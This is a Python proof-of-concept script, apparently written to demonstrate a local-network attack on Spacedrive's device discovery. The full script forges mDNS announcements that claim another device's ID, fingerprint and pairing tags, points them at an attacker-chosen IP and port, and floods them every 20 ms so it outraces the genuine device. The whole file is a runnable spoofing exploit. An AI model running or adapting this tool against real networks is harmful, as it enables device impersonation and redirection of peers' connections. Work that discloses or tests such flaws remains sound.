#!/usr/bin/env python3
"""Announce, over and over, a device that is somebody else: what an attacker on the local network can do.
mdns_forger.py DEVICE_ID FINGERPRINT PORT IPV4 [PAIRING_TAG_HEX]     (RFC 6762, RFC 6763; until it is killed)"""
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
SERVICE = "_spacedrive._tcp.local"
LIFE_S = 120
PTR, TXT, SRV, A = 12, 16, 33, 1
IN, IN_UNIQUE = 1, 0x8001


def name(dotted):
    return b"".join(bytes([len(label)]) + label.encode() for label in dotted.split(".")) + b"\0"


def record(owner, kind, cls, data):
    return name(owner) + struct.pack("!HHIH", kind, cls, LIFE_S, len(data)) + data


def main():
    device, fingerprint, port, address = sys.argv[1:5]
    strings = ["v=1", f"id={device}", f"fp={fingerprint[:16]}"] + [f"pair={tag}" for tag in sys.argv[5:]]
    instance, host = f"{device}-dead.{SERVICE}", f"{device}-dead-kith.local"
    text = b"".join(bytes([len(s)]) + s.encode() for s in strings)
    records = [record(SERVICE, PTR, IN, name(instance)),
               record(instance, SRV, IN_UNIQUE, struct.pack("!HHH", 0, 0, int(port)) + name(host)),
               record(instance, TXT, IN_UNIQUE, text),
               record(host, A, IN_UNIQUE, socket.inet_aton(address))]
    packet = struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind(("", GROUP[1]))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    print("announcing", flush=True)
    while True:
        s.sendto(packet, GROUP)
        time.sleep(0.02)  # so that it is heard before anybody else


main()
